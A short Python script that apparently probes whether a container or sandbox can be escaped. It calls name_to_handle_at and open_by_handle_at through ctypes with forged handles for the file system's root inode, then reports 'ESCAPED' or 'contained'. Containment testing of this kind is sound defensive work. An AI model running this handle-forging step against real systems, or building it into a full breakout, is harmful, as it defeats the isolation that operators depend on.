# A file handle names an inode of the whole file system, past every mount and root.
import ctypes

NAME_TO_HANDLE, OPEN_BY_HANDLE = 303, 304
libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_uint32 * 34)(128)
mount = ctypes.c_int()
escaped = []
if libc.syscall(NAME_TO_HANDLE, -100, b".", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    escaped.append("name_to_handle_at")
for inode in (2, 128):
    root = (ctypes.c_uint32 * 34)(8, 1, inode, 0)
    if libc.syscall(OPEN_BY_HANDLE, 0, ctypes.byref(root), 0) >= 0:
        escaped.append("open_by_handle_at")
print(f"ESCAPED: {escaped}" if escaped else "contained")
